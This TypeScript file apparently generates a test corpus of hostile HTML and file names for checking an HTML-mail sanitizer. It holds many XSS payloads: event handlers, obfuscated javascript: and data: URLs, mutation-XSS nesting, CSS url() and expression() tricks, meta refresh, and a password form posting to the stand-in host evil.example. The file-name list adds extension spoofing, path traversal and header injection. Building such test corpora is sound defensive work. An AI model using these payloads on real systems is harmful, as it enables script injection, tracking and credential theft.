import { hostileWords, packed } from "./hostile-words.ts";

// What has been put into html mail to make a reader's browser run it or tell somebody of it: families × shapes, beside the words
// that hurt everywhere. All of them set `__xss`, open a dialog, or ask evil.example for something.

const run = "self.__xss=1";
const evil = "https://evil.example/x";
const attack = `<img src=x onerror=${run}>`;

const each = <T>(list: readonly T[], write: (one: T, at: number) => string | readonly string[]): string[] => list.flatMap(write);

/** Handlers on what a letter may hold, written as a careless filter misses them. */
const letterTags = ["p", "a href=https://evil.example", "table", "td", "font", "b", "span", "blockquote", "pre", "h1"];
const handlers = each(letterTags, (tag) => [
  `<${tag} onmouseover=${run}>x`,
  `<${tag} style="color:red" onpointerover="${run}">x`,
  `<${tag}\u000confocus=${run} tabindex=0 autofocus>x`,
  `<${tag} x="\u0000" onclick\u0009=\u000a'${run}'>x`,
]);

/** An address that runs, behind everything that a browser looks past and a filter may not. */
const schemes = [
  "javascript:self.__xss=1",
  "\u0001javascript:self.__xss=1",
  "java\u0009script:self.__xss=1",
  "java\u000ascript:self.__xss=1",
  "java\u000d\u000ascript:self.__xss=1",
  "&#106;avascript:self.__xss=1",
  "&#x6A&#x61vascript&colon;self.__xss=1",
  "&#0000106avascript:self.__xss=1",
  "jav&Tab;ascript&colon;self.__xss&equals;1",
  "&NewLine;javascript&colon;alert&lpar;1&rpar;",
  "javascript&#58;confirm(1)",
  "\u00a0javascript:self.__xss=1",
  "\u2028javascript:self.__xss=1",
  "feed:javascript:self.__xss=1",
  "view-source:javascript:self.__xss=1",
  "vbscript:msgbox(1)",
  "livescript:self.__xss=1",
  "data:text/html;base64,PHNjcmlwdD5zZWxmLl9feHNzPTE8L3NjcmlwdD4=",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>self.__xss=1</script>",
  "data:;charset=utf-7,+ADw-script+AD4-self.__xss=1",
  "filesystem:https://evil.example/x",
  "https:javascript:self.__xss=1",
];
const addresses = each(schemes, (to) => [
  `<a href="${to}" id=x>x</a>`,
  `<img src="${to}">`,
  `<blockquote cite="${to}">x</blockquote>`,
  `<a href="https://nordvik.example" ping="${to}" target="_self">x</a>`,
  `<iframe src="${to}">`,
  `<form><button formaction="${to}" autofocus>x</button></form>`,
]);

/** What asks another machine for something as soon as it is drawn. */
const loads = [
  "img src|img srcset|img lowsrc|img dynsrc|input type=image src|video poster|video src|audio src|source srcset|",
  "track default src|embed src|object data|iframe src|frame src|link rel=prefetch href|",
  "link rel=dns-prefetch href|link rel=icon href|link rel=preload as=image href|link rel=modulepreload href|",
  "link rel=stylesheet href|body background|table background|td background|tr background|th background|",
  "html manifest|svg><image href|svg><use href|svg><feImage xlink:href|base href|bgsound src|portal src|",
  "applet code=x codebase|script src",
].join("");
const callers = each(loads.split("|"), (where) => [`<${where}="${evil}">`, `<${where}=//evil.example/x>`]);

const rule = (text: string): string[] => [`<style>${text}</style>`, `<svg><style>${text}</style></svg>`];
const sheets = each(
  [
    `@import "${evil}";`,
    `@import url(${evil}) screen;`,
    `body{background:url(${evil})}`,
    `@font-face{font-family:x;src:url(${evil})}*{font-family:x}`,
    `p:first-child{content:image-set("${evil}" 1x)}`,
    `input[value^=a]{background:url(${evil})}`,
    `*{behavior:url(${evil})}`,
    `x:\u0000{}</style>${attack}`,
  ],
  rule,
);
const inStyle = each(
  [
    `background:url(${evil})`,
    `background:u\\72l(${evil})`,
    `background-image:/**/url("${evil}")`,
    `list-style:url(${evil})`,
    `content:url(${evil})`,
    `cursor:url(${evil}),auto`,
    `border-image:url(${evil})`,
    `-moz-binding:url(${evil}#x)`,
    `behavior:url(${evil})`,
    `width:expression(${run})`,
    `width:exp/**/ression(${run})`,
    `color:red;background:image(url(${evil}))`,
    `color:var(--x,url(${evil}))`,
    `background-color:url(${evil})`,
    `font:1px url(${evil})`,
    `mask:url(${evil})`,
    `filter:url(${evil}#x)`,
    `color:red\u0000;background:url(${evil})`,
    `position:fixed;top:0;left:0;width:9999px;height:9999px`,
    `margin:-9999px;z-index:2147483647`,
  ],
  (style) => [`<p style="${style}">x</p>`, `<td style='${style.replaceAll('"', "")}'>x`],
);

/** Read once as text and once as markup: every element whose inside is one or the other, in every such element. */
const rawText = ["noscript", "template", "style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "script", "plaintext"];
const foreign = ["svg", "math", "math><mtext", "math><annotation-xml encoding=text/html", "svg><foreignObject", "svg><desc"];
const nested = [
  ...each(rawText, (tag) => [
    `<${tag}><p title="</${tag}>${attack}">`,
    `<p><${tag}></p>${attack}</${tag}>`,
    `<${tag}/>${attack}`,
    `<${tag}><!--</${tag}>${attack}-->`,
    `<table><${tag}><td>${attack}</${tag}>`,
  ]),
  ...each(foreign, (outer) =>
    rawText
      .slice(0, 6)
      .flatMap((tag) => [`<${outer}><${tag}><a title="</${tag}>${attack}">`, `<${outer}></p><${tag}><!--</${tag}>${attack}--!>`]),
  ),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${attack.replace("<", "&lt;")}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${attack}">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--&gt;${attack.replace("<", "&lt;")}">`,
  `${"<div>".repeat(300)}<svg><style><a title="</style>${attack}">`,
  `${"<b><font>".repeat(120)}<table><math><style>${attack}`,
  `<form id=x></form><form id=y><math><mtext></form><form><mglyph><style></math>${attack}`,
  `<select><style></select><svg><style>${attack}</style>`,
  `<a><svg></a><a><title></svg>${attack}</title>`,
  `<!--><script>${run}</script>-->`,
  `<!--!><script>${run}</script>--!>`,
  `<![CDATA[><script>${run}</script>]]>`,
  `<?xml><script>${run}</script>?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  `<!--[if true]><script>${run}</script><![endif]-->`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
];

/** Frames in frames, pages sent elsewhere, forms that send themselves. */
const documents = [
  ...each(["&lt;", "&amp;lt;", "&#60;", "&#x3c;", "<"], (less) => [
    `<iframe srcdoc="${less}script>top.__xss=1${less}/script>">`,
    `<iframe srcdoc='${less}img src=x onerror=parent.__xss=1>' sandbox="allow-scripts allow-same-origin">`,
  ]),
  ...each(["0", "0.1", "0;", "0; url", "0;\u000aURL"], (when) => [
    `<meta http-equiv=refresh content="${when}=${evil}">`,
    `<META HTTP-EQUIV="Refresh" CONTENT="${when};url=javascript:${run}">`,
  ]),
  `<meta http-equiv=content-security-policy content="script-src *">`,
  `<meta http-equiv=set-cookie content="session=x">`,
  `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<base href="https://evil.example/"><img src=x><a href=y>x</a>`,
  `<base target=_self><a href="${evil}">x</a>`,
  `<form action="${evil}" id=f><input name=password><input type=submit autofocus></form>`,
  `<isindex action="${evil}" type=image src=x onerror=${run}>`,
  `<button form=f formaction="javascript:${run}">x</button>`,
  `<object type="text/html" data="data:text/html,<script>${run}</script>">`,
  `<object><param name=movie value="${evil}"><embed src="data:image/svg+xml,<svg onload=${run}>"></object>`,
  `<html onload=${run}><head><title>x</title></head><body onpageshow=${run} onhashchange=${run}>x</body></html>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p autofocus>x</button>`,
  `<video autoplay onloadstart=${run}><source src=x onerror=alert(1)></video>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x" />`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${run}">x</maction></math>`,
  `<img name=body><img name=getElementById><form name=cookie><input id=attributes></form>`,
  `<a id=__xss></a><a id=__xss name=x href="${evil}"></a>`,
];

/** An invitation whose words are markup: its html shape is read like any other. */
const invitations = each(["ontoggle", "onerror", "onload"], (event) => [
  `BEGIN:VCALENDAR DESCRIPTION:<details open ${event}=${run}>`,
  `X-ALT-DESC;FMTTYPE=text/html:<html><body><svg ${event}=${run}></body></html>`,
  `<pre>BEGIN:VEVENT\nSUMMARY:<img src=x ${event}=${run}>\nURL:javascript:${run}\nEND:VEVENT</pre>`,
]);

const markup = [...handlers, ...addresses, ...callers, ...sheets, ...inStyle, ...nested, ...documents, ...invitations];

/** Html bodies and pieces of them, each its own attack; as they are, with their line ends and control characters. */
export const hostileHtml: readonly string[] = [...new Set([...markup, ...hostileWords])];

/** What it opened is closed behind it, so that it swallows nothing of its neighbours. */
const closed = (html: string): string =>
  `${html}${[...html.matchAll(/<([a-z][\w:-]*)/gi)]
    .map(([, name]) => `</${name}>`)
    .reverse()
    .join("")}`;

/** About so many at a time, each behind a rule, in one body; those that cannot be closed stand last. */
export function bodies(size: number): string[] {
  const endless = (html: string) => /<(?:plaintext|!|\?)/i.test(html);
  const last = hostileHtml.filter(endless);
  const rest = hostileHtml.filter((one) => !endless(one));
  const count = Math.ceil(rest.length / size);
  return Array.from({ length: count }, (_, at) =>
    [...rest.slice(at * size, (at + 1) * size), ...last.filter((_one, n) => n % count === at)].map(closed).join("\n<hr>\n"),
  );
}

/** Names of files that are taken for something else, or for markup. */
export const hostileFileNames: readonly string[] = [
  "photo\u202egnp.exe",
  "\u202excod.scr",
  "\u2066report\u2069.html",
  "\u200b.htaccess",
  "..\\..\\a.html",
  "../../etc/passwd",
  "a\u0000.png",
  "CON.html",
  `"><img src=x onerror=${run}>.png`,
  `'onmouseover='${run}'.jpg`,
  `<svg onload=${run}>.svg`,
  `<script>${run}</script>.txt`,
  `javascript:${run}.pdf`,
  "{{constructor.constructor('self.__xss=1')()}}.docx",
  "${self.__xss=1}.xlsx",
  `invite<details open ontoggle=${run}>.ics`,
  `${"a".repeat(3000)}<img src=x onerror=${run}>.png`,
  `x.png\r\nContent-Type: text/html`,
  ...packed(180),
];
